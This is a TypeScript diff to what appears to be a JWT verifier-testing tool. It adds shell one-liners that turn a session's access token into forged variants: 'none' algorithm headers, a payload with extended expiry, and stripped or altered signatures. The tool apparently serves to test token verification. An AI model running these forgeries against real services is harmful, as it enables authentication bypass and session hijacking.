@@ -7,6 +7,8 @@ export interface ForgedToken {
   readonly kind: ForgeryKind;
   readonly variant: string;
   readonly token: string;
+  /** A line for the shell that makes it from the token of a session, where one line can. */
+  readonly make?: string;
 }
 
 /** Verifiers that compare the name in lower case, or only with `none`, accept another spelling (RFC 8725 §3.1, CVE-2015-9235). */
@@ -17,10 +19,30 @@ export function forgedFrom(jwt: Jwt): readonly ForgedToken[] {
   const [header, payload, signature] = jwt.parts;
   return [
     ...NONE_SPELLINGS.flatMap((alg) => unsigned(jwt, alg)),
-    { kind: 'tampered-payload', variant: 'a longer life', token: `${header}.${longerLived(jwt)}.${signature}` },
-    { kind: 'tampered-payload', variant: 'a changed signature', token: `${header}.${payload}.${changed(signature)}` },
-    { kind: 'stripped-signature', variant: 'an empty signature', token: `${header}.${payload}.` },
-    { kind: 'stripped-signature', variant: 'two parts', token: `${header}.${payload}` },
+    {
+      kind: 'tampered-payload',
+      variant: 'a longer life',
+      token: `${header}.${longerLived(jwt)}.${signature}`,
+      make: madeBy(`[h, part({ ...json(p), exp: json(p).exp + ${DAY_S} }), s]`),
+    },
+    {
+      kind: 'tampered-payload',
+      variant: 'a changed signature',
+      token: `${header}.${payload}.${changed(signature)}`,
+      make: madeBy(`[h, p, (s[0] === "A" ? "B" : "A") + s.slice(1)]`),
+    },
+    {
+      kind: 'stripped-signature',
+      variant: 'an empty signature',
+      token: `${header}.${payload}.`,
+      make: 'FORGED_TOKEN="${ACCESS_TOKEN%.*}."',
+    },
+    {
+      kind: 'stripped-signature',
+      variant: 'two parts',
+      token: `${header}.${payload}`,
+      make: 'FORGED_TOKEN="${ACCESS_TOKEN%.*}"',
+    },
     embeddedKey(jwt),
   ];
 }
@@ -28,10 +50,24 @@ export function forgedFrom(jwt: Jwt): readonly ForgedToken[] {
 function unsigned({ header, parts: [, payload, signature] }: Jwt, alg: string): readonly ForgedToken[] {
   const first = encoded({ ...header, alg });
   return [
-    { kind: 'alg-none', variant: `alg "${alg}" without a signature`, token: `${first}.${payload}.` },
-    { kind: 'alg-none', variant: `alg "${alg}" with the old signature`, token: `${first}.${payload}.${signature}` },
+    {
+      kind: 'alg-none',
+      variant: `alg "${alg}" without a signature`,
+      token: `${first}.${payload}.`,
+      make: madeBy(`[part({ ...json(h), alg: "${alg}" }), p, ""]`),
+    },
+    {
+      kind: 'alg-none',
+      variant: `alg "${alg}" with the old signature`,
+      token: `${first}.${payload}.${signature}`,
+      make: madeBy(`[part({ ...json(h), alg: "${alg}" }), p, s]`),
+    },
   ];
 }
+
+/** A line for the shell that makes the parts of a token from those of a session: header, payload and signature. */
+const madeBy = (parts: string): string =>
+  `FORGED_TOKEN=$(node -p 'const [h, p, s] = process.argv[1].split("."); const json = (t) => JSON.parse(Buffer.from(t, "base64url")); const part = (v) => Buffer.from(JSON.stringify(v)).toString("base64url"); ${parts}.join(".")' "$ACCESS_TOKEN")`;
 
 const DAY_S = 86_400;
 
